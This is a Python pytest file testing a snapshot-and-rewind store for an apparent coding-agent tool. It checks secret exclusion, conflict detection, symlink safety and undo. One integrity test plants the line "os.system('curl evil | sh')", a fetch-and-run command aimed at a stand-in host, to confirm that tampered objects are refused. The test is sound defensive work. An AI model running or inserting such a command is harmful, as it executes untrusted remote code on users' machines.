"""Working-tree snapshots without git: content-addressed copies, the log, and rewind plans."""

from __future__ import annotations

import hashlib
import threading
import time
from pathlib import Path

import pytest

from engram.stores.snapshots import (
    UNDO_TOOL,
    SnapshotLog,
    apply_rewind,
    changed_paths,
    code_at,
    kept_at,
    live_changes,
    new_record,
    plan_rewind,
)
from engram.stores.snapshots._trees import CopyTrees, SnapshotError
from tests.support.state import state_of


def _hashes(root: Path) -> dict[str, str]:
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.relative_to(root).as_posix().startswith(".engram/")
    }


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "p"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("a = 1\n")
    (root / "run.sh").write_text("echo hi\n")
    (root / "run.sh").chmod(0o755)
    (root / ".env").write_text("KEY=secret\n")
    return root


def test_copy_snapshot_leaves_out_secrets_and_engram_and_dedups(tmp_path):
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    first = trees.snapshot()
    files = trees.files(first)
    assert set(files) == {"src/a.py", "run.sh"}
    assert files["run.sh"].executable and not files["src/a.py"].executable
    assert trees.snapshot() == first  # unchanged tree, same id, no new objects
    assert trees.read(files["src/a.py"]) == b"a = 1\n"


def test_rewind_restores_created_deleted_and_mode_changed_files_exactly(tmp_path):
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    start, start_hashes = trees.snapshot(), _hashes(root)
    (root / "src" / "a.py").unlink()
    (root / "gen" / "deep").mkdir(parents=True)
    (root / "gen" / "deep" / "new.txt").write_text("new\n")
    (root / "run.sh").chmod(0o644)
    last = trees.snapshot()
    plan = plan_rewind(trees, start, last)
    assert plan.conflicts == frozenset()
    assert plan.paths == {"src/a.py", "gen/deep/new.txt", "run.sh"}
    apply_rewind(root, trees, plan)
    assert _hashes(root) == start_hashes
    assert not (root / "gen").exists()  # folders left empty are removed
    assert (root / "run.sh").stat().st_mode & 0o100


def test_a_file_the_user_changed_since_is_a_conflict_unless_already_restored(tmp_path):
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    start = trees.snapshot()
    (root / "src" / "a.py").write_text("a = 2\n")
    (root / "run.sh").write_text("echo engram\n")
    last = trees.snapshot()
    (root / "src" / "a.py").write_text("a = 3  # user\n")
    (root / "run.sh").write_text("echo hi\n")  # the user put it back already
    (root / "notes.md").write_text("mine\n")  # not the session's file: never touched
    plan = plan_rewind(trees, start, last)
    assert plan.conflicts == {"src/a.py"}
    apply_rewind(root, trees, plan, force=True)
    assert (root / "src" / "a.py").read_text() == "a = 1\n"
    assert (root / "notes.md").read_text() == "mine\n"


def test_code_at_follows_the_checkpoint_ancestry(tmp_path):
    log = SnapshotLog(state_of(tmp_path))
    log.append(new_record("t", "c2", "write", "edit_file", "T0", "T1", {"a"}))
    log.append(new_record("t", "c2", "command", "run_command", "T1", "T2", {"b"}))
    log.append(new_record("t", "c5", "write", "edit_file", "T2", "T3", {"a"}))
    log.append(new_record("t", None, "rewind", "rewind", "T3", "T0", {"a", "b"}))
    with open(log.folder / "t.jsonl", "a", encoding="utf-8") as handle:
        handle.write('{"thread_id": "t", "torn')  # a crash mid-line is skipped
    records = log.records("t")
    assert len(records) == 4
    assert code_at(records, None) == "T0"  # the start
    assert code_at(records, ["c2", "c1", "c0"]) == "T0"  # before the step's actions ran
    assert code_at(records, ["c4", "c3", "c2", "c1"]) == "T2"  # after them
    assert code_at(records, ["c5", "c4", "c3", "c2"]) == "T2"
    assert code_at(records, ["c9", "c5"]) == "T3"
    assert code_at(records, ["c1", "c0"]) == "T0"  # before any action: the start
    assert code_at([], ["c1"]) is None


def _live(records: list) -> list[str]:
    return [r.after for r in live_changes(records)]


def test_undo_takes_back_the_newest_change_still_in_effect():
    edit = new_record("t", "c2", "write", "edit_file", "T0", "T1", {"a"})
    command = new_record("t", "c5", "command", "run_command", "T1", "T2", {"b"})
    idle = new_record("t", "c6", "command", "run_command", "T2", "T2", set())
    assert _live([edit, command, idle]) == ["T1", "T2"]  # a command that changed nothing
    undo = new_record("t", None, "rewind", UNDO_TOOL, "T2", "T1", {"b"})
    later = new_record("t", "c8", "write", "edit_file", "T1", "T4", {"c"})
    assert _live([edit, command, undo, later]) == ["T1", "T4"]
    assert _live([edit, command, undo, later, undo, undo]) == []
    assert _live([edit, undo, undo]) == []


def test_a_rewind_keeps_only_the_changes_made_before_its_target():
    edit = new_record("t", "c2", "write", "edit_file", "T0", "T1", {"a"})
    command = new_record("t", "c5", "command", "run_command", "T1", "T2", {"b"})
    live = live_changes([edit, command])
    assert kept_at(live, ["c4", "c3", "c2", "c1"]) == 1  # the edit ran before c4
    assert kept_at(live, ["c2", "c1"]) == 0  # from c2 itself: rewound too
    assert kept_at(live, None) == 0  # the start
    assert kept_at(live, ["c9", "c5", "c2"]) == 2
    rewind = new_record("t", None, "rewind", "rewind", "T2", "T1", {"b"}, kept=1)
    assert _live([edit, command, rewind]) == ["T1"]
    old_rewind = new_record("t", None, "rewind", "rewind", "T2", "T1", {"b"})
    assert _live([edit, command, old_rewind]) == ["T1", "T2"]  # logged before ``kept``


def test_a_planted_or_damaged_object_is_never_restored(tmp_path):

    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    files = trees.files(trees.snapshot())
    entry = files["src/a.py"]
    stored = trees._object(entry.blob)
    stored.chmod(0o644)
    stored.write_bytes(b"import os; os.system('curl evil | sh')\n")
    with pytest.raises(SnapshotError, match="does not match its content"):
        trees.read(entry)


def test_snapshots_live_in_the_state_folder_not_the_project(tmp_path):
    root = _project(tmp_path)
    CopyTrees(root, state_of(root)).snapshot()
    assert not (root / ".engram").exists()
    assert any(state_of(root).path("snapshots", "objects").rglob("*"))


def _step(trees, log, checkpoint, tool, change, kind="write"):
    """Run one engram step: snapshot, change, snapshot, log it."""
    before = trees.snapshot()
    change()
    after = trees.snapshot()
    log.append(
        new_record(
            "t",
            checkpoint,
            kind,
            tool,
            before,
            after,
            set(changed_paths(trees.files(before), trees.files(after))),
        )
    )
    return before, after


def test_a_file_the_user_edited_between_two_turns_is_a_conflict(tmp_path):
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    log = SnapshotLog(state_of(root))
    a = root / "src" / "a.py"
    start, _ = _step(trees, log, "c1", "edit_file", lambda: a.write_text("a = 2\n"))
    a.write_text("a = 2\n# the user's own line\n")  # between the turns, by hand
    _, last = _step(trees, log, "c2", "edit_file", lambda: (root / "b.py").write_text("b\n"))
    plan = plan_rewind(trees, start, last, log.records("t"))
    assert "src/a.py" in plan.conflicts and "b.py" not in plan.conflicts
    assert a.read_text().endswith("# the user's own line\n")


def test_a_forced_rewind_never_follows_a_link_the_user_made(tmp_path):
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    log = SnapshotLog(state_of(root))
    precious = tmp_path / "precious.txt"
    precious.write_text("mine\n")
    new = root / "new.txt"
    start, last = _step(trees, log, "c1", "write_file", lambda: new.write_text("made\n"))
    new.unlink()
    new.symlink_to(precious)
    plan = plan_rewind(trees, start, last, log.records("t"))
    assert plan.links == {"new.txt"} and "new.txt" in plan.conflicts
    assert apply_rewind(root, trees, plan) == []  # forced: the link is left alone
    assert new.is_symlink() and precious.read_text() == "mine\n"


def test_a_file_the_user_wrote_while_a_command_ran_is_held_not_reverted(tmp_path):
    """Nothing tells a command's writes from the user's made meanwhile: both are kept."""
    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    log = SnapshotLog(state_of(root))
    a = root / "src" / "a.py"
    start, _ = _step(trees, log, "c1", "edit_file", lambda: a.write_text("a = 2\n"))

    def command_while_the_user_types() -> None:
        running = threading.Timer(0.3, lambda: (root / "out.txt").write_text("built\n"))
        running.start()
        time.sleep(0.1)
        (root / "notes.md").write_text("typed while the command ran\n")
        running.join()

    _, last = _step(trees, log, "c2", "run_command", command_while_the_user_types, "command")
    plan = plan_rewind(trees, start, last, log.records("t"))
    assert plan.held == {"notes.md", "out.txt"} and plan.conflicts == frozenset()
    assert plan.restored(force=False) == {"src/a.py"}
    assert apply_rewind(root, trees, plan) == ["src/a.py"]
    assert (root / "notes.md").read_text() == "typed while the command ran\n"
    assert (root / "out.txt").exists() and a.read_text() == "a = 1\n"
    assert sorted(apply_rewind(root, trees, plan, force=True)) == ["notes.md", "out.txt"]


def test_a_rewind_whose_file_system_hangs_stops_and_writes_nothing(tmp_path, monkeypatch):
    from engram.stores.files import _atomic as atomic_file
    from engram.stores.snapshots import _rewind as rewind

    root = _project(tmp_path)
    trees = CopyTrees(root, state_of(root))
    log = SnapshotLog(state_of(root))
    a, b = root / "src" / "a.py", root / "src" / "b.py"
    start, last = _step(
        trees, log, "c1", "edit_file", lambda: (a.write_text("a = 2\n"), b.write_text("b\n"))
    )
    plan = plan_rewind(trees, start, last, log.records("t"))
    hung = threading.Event()
    real_read = rewind.read_regular

    def read_regular(path: Path) -> bytes:
        if path.name == "b.py":
            hung.wait(10)  # a hung mount: the read does not return
        return real_read(path)

    monkeypatch.setattr(atomic_file, "FILE_OP_SECONDS", 0.2)
    monkeypatch.setattr(rewind, "read_regular", read_regular)
    try:
        with pytest.raises(atomic_file.FileTimeoutError, match="reading src/b.py did not finish"):
            apply_rewind(root, trees, plan)
    finally:
        hung.set()
    assert a.read_text() == "a = 2\n" and b.read_text() == "b\n"  # read before any write
